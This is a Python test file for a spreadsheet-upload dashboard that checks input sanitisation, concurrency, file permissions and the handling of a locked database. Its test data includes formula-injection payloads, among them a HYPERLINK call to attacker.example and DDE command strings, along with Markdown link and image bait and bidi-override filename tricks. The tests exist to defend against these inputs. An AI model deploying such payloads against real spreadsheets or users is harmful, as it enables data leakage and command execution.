"""Untrusted text stays text, two people at once stay apart, the database is
private and a busy one says so (issue: nothing lost, nothing torn, nobody
knocked over, points 4 to 9)."""

from __future__ import annotations

import io
import json
import stat
import subprocess
import sys
import threading
import tomllib

import pytest
import streamlit as st
from openpyxl import load_workbook
from streamlit.testing.v1 import AppTest

from dashboard import ROOT, narrative, registry, ui, uploads
from dashboard.ingest import ingest
from dashboard.store import Store
from tests.conftest import snapshot, xlsx

HOSTILE_TEXT = [
    '=HYPERLINK("http://attacker.example/?leak","rejected")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
CONFIG = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))


# -- 4: formulas never come back to life ---------------------------------------------


def test_the_fix_it_workbook_writes_formula_text_as_text(store):
    rows = [[None, text, "Erbil"] for text in HOSTILE_TEXT]  # no name: rejected, kept as written
    r = ingest(store, xlsx({"S": (["Full name", "Sex", "Governorate"], rows)}), "f.xlsx")
    assert r.n_rejected == 3
    _, data = uploads.fixit(store, r.upload_id)
    sheet = load_workbook(io.BytesIO(data))["S"]
    cells = [sheet.cell(row=i + 2, column=2) for i in range(3)]
    assert [c.value for c in cells] == HOSTILE_TEXT
    assert {c.data_type for c in cells} == {"s"}  # text, never "f"


def test_no_table_offers_its_own_download():
    """The dataframe toolbar's CSV writes cells unescaped: it is off, so data
    leaves only through the app's own formula-safe exports."""
    assert CONFIG["client"]["disableDataExport"] is True


# -- 5: uploaded text is shown as plain text ----------------------------------------------

LINK = "[click](https://attacker.example/x)"
IMAGE = "![](https://attacker.example/pixel.png)"


@pytest.fixture
def app(databases, monkeypatch):
    monkeypatch.setenv("OVERSIGHT_DB", str(databases.for_app("o.duckdb")))
    st.cache_resource.clear()
    st.cache_data.clear()
    yield lambda **q: _start(q)
    st.cache_resource.clear()
    st.cache_data.clear()


def _start(query: dict) -> AppTest:
    at = AppTest.from_file(str(ROOT / "streamlit_app.py"), default_timeout=60)
    at.query_params.update(query)
    return at.run()


def _shown(at: AppTest) -> list[str]:
    """Every Markdown source the page sent: headings, captions, alerts, labels."""
    out = []
    for kind in (
        "markdown",
        "caption",
        "subheader",
        "title",
        "error",
        "warning",
        "info",
        "success",
    ):
        out += [e.value for e in getattr(at, kind)]
    out += [e.label for e in at.expander]
    return out


def _live(markdown: str) -> bool:
    """Whether Markdown source would make a link or an image of our bait."""
    return "](https://attacker.example" in markdown


def test_file_names_notes_and_sheet_names_never_make_links(app):
    at = app()
    at.switch_page(registry.BY_NAME["upload"].file).run()
    header = ["Full name", "Sex", "Governorate", f"Notes {LINK}"]
    rows = [["Test Person Link", "F", "Erbil", IMAGE], [f"{LINK}", "M", "Atlantis " + IMAGE, None]]
    data = xlsx({"Course $x$ ~~y~~": (header, rows)})
    at.file_uploader[0].upload(f"roster {LINK}.xlsx", data).run()
    assert not at.exception
    shown = _shown(at)
    assert any("attacker" in s for s in shown)  # the text is there, as text
    assert not any(_live(s) for s in shown)
    assert any("Course \\$x\\$ \\~\\~y\\~\\~" in s for s in shown)  # no math, no strike


def test_the_filter_sentence_from_a_link_stays_plain(app, databases):
    store = Store(databases("o.duckdb"))
    ingest(
        store,
        xlsx({"S": (["Full name", "Sex", "Course"], [["Test", "F", f"Course {LINK}"]])}),
        "c.xlsx",
    )
    store.close()
    at = app(course=f"Course {LINK}")
    assert not at.exception
    (caption,) = [c.value for c in at.caption if c.value.startswith("Showing")]
    assert "attacker" in caption and not _live(caption)


def test_course_names_are_plain_text_on_charts(store):
    from dashboard import charts

    name = '<a href="//x.example">c</a>'
    groups = [{"key": name, "label": name, "n": 10, "n_women": 4, "target": 0.3}]
    figure, _ = charts.women_share_bars(groups, "filters.course")
    bars = figure.data[0]
    (label,) = bars.y  # the name, escaped, over the bar's own words
    assert label.startswith('&lt;a href="//x.example"&gt;c&lt;/a&gt;<br>')
    assert "<a" not in label
    assert bars.customdata[0][0] == groups[0]["key"]  # a click still filters on the name
    assert "<a" not in bars.customdata[0][1]


# -- 6: two people committing at once ----------------------------------------------------


def test_the_same_file_committed_twice_at_once_lands_once(databases):
    store = Store(databases("o.duckdb"))
    data = xlsx(
        {
            "S": (
                ["Full name", "Sex", "Governorate"],
                [[f"Test {i}", "F", "Erbil"] for i in range(300)],
            )
        }
    )
    results = []
    start = threading.Barrier(2)

    def commit(name: str) -> None:
        start.wait()
        results.append(ingest(store, data, name))

    threads = [threading.Thread(target=commit, args=(n,)) for n in ("a.xlsx", "b.xlsx")]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(r.status for r in results) == ["duplicate", "loaded"]
    assert store.scalar("select count(*) from uploads") == 1
    assert store.scalar("select count(*) from participants") == 300
    store.close()


def test_what_changed_is_each_upload_s_own(databases):
    store = Store(databases("o.duckdb"))
    erbil = xlsx(
        {"S": (["Full name", "Governorate"], [[f"Test E{i}", "Erbil"] for i in range(200)])}
    )
    duhok = xlsx(
        {"S": (["Full name", "Governorate"], [[f"Test D{i}", "Duhok"] for i in range(50)])}
    )
    results = {}
    start = threading.Barrier(2)

    def commit(name: str, data: bytes) -> None:
        start.wait()
        results[name] = ingest(store, data, name)

    threads = [
        threading.Thread(target=commit, args=("erbil.xlsx", erbil)),
        threading.Thread(target=commit, args=("duhok.xlsx", duhok)),
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    e, d = results["erbil.xlsx"], results["duhok.xlsx"]
    assert narrative.change(e.before, e.after).startswith("+200 participants; Erbil now 200")
    assert narrative.change(d.before, d.after).startswith("+50 participants; Duhok now 50")
    store.close()


# -- 7: invisible and control characters; a huge cell --------------------------------------


def test_bidi_controls_and_nul_leave_names_and_file_names(store):
    rows = [["Ali\u202eexe.png", "M", "Erbil"], ["Test \u2066Isolate\u2069", "F", "Erbil"],
            ["Plain", "F", "Erbil"]]  # fmt: skip
    r = ingest(
        store, xlsx({"S": (["Full name", "Sex", "Governorate"], rows)}), "list\u202egpj.xlsx"
    )
    assert r.file_name == "listgpj.xlsx"
    assert store.scalar("select file_name from uploads") == "listgpj.xlsx"
    names = store.cursor().execute("select full_name from participants order by 1").fetchall()
    assert [n for (n,) in names] == ["Aliexe.png", "Plain", "Test Isolate"]
    assert (
        "invisible control characters (which can hide or reverse text) removed from rows 2, 3"
        in [str(n) for n in r.sheets[0].notes]
    )
    r = ingest(store, b"Full name,Sex\nTest\x00 Nul,F\n", "nul\x00.csv")
    assert r.file_name == "nul.csv"
    assert store.scalar("select count(*) from participants where full_name = 'Test Nul'") == 1


def test_a_one_megabyte_cell_rejects_its_row_not_the_file(store):
    big = "x" * 1_000_000
    text = f"Full name,Sex,Governorate,Notes\nTest One,F,Erbil,{big}\nTest Two,M,Erbil,short\n"
    r = ingest(store, text.encode(), "long.csv")
    assert (r.status, r.n_loaded, r.n_rejected) == ("loaded", 1, 1)
    assert str(r.rejections[0].reason) == (
        "a cell in column 'Notes' holds more than 32,767 characters, more than a spreadsheet"
        " cell can"
    )
    (raw,) = store.cursor().execute("select raw from rejected_rows").fetchone()
    assert len(json.loads(raw)["Notes"]) == 32_767  # kept, cut to what a cell holds


# -- 8: no server paths, a private file, a busy database ----------------------------------


def test_errors_show_no_details_and_the_file_is_private(tmp_path):
    assert CONFIG["client"]["showErrorDetails"] == "none"
    store = Store(tmp_path / "o.duckdb")
    ingest(store, xlsx({"S": (["Full name", "Sex"], [["Test", "F"]])}), "a.xlsx")
    for path in tmp_path.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    store.close()


def test_a_database_held_by_another_program_is_said_not_traced(app, tmp_path, monkeypatch):
    monkeypatch.setattr(ui.cached, "BUSY_RETRIES", 2)
    monkeypatch.setattr(ui.cached, "BUSY_WAIT", 0.1)
    db = tmp_path / "o.duckdb"  # a file, whichever store the other tests run on
    Store(db).close()
    monkeypatch.setenv("OVERSIGHT_DB", str(db))
    holder = subprocess.Popen(
        [sys.executable, "-c", f"import duckdb, time; c = duckdb.connect({str(db)!r});"
         " print('held', flush=True); time.sleep(60)"],
        stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert holder.stdout.readline().strip() == "held"
        at = app()
        assert not at.exception
        # "busy, retrying" shows while it tries; then, in its place:
        assert at.error[0].value.startswith("The database is still held by another program")
        assert "Traceback" not in " ".join(_shown(at))
    finally:
        holder.kill()
        holder.wait()
    at = app()  # once it is free, the page comes back by itself
    assert not at.exception and at.title[0].value == "Overview"


def test_a_refused_upload_leaves_the_database_as_it_was(store):
    before = snapshot(store)
    r = ingest(store, b"\x00\x01\x02 not a workbook at all", "scan.xlsx")
    assert r.status == "refused" and snapshot(store) == before
